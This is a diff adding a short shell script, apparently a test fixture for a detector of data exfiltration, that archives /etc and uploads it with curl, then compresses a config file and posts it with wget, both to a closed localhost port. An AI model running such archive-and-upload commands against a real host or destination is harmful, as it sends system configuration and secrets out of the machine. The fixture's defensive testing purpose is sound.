@@ -1,0 +1,8 @@
+#!/bin/sh
+# Packed and sent away, to a port that is closed.
+# expects: exfiltration_archive_then_upload 2
+
+tar -czf /tmp/settings.tgz /etc
+curl -s -T /tmp/settings.tgz http://127.0.0.1:9/
+gzip -k /etc/app.conf
+wget -q --post-file=/etc/app.conf.gz http://127.0.0.1:9/
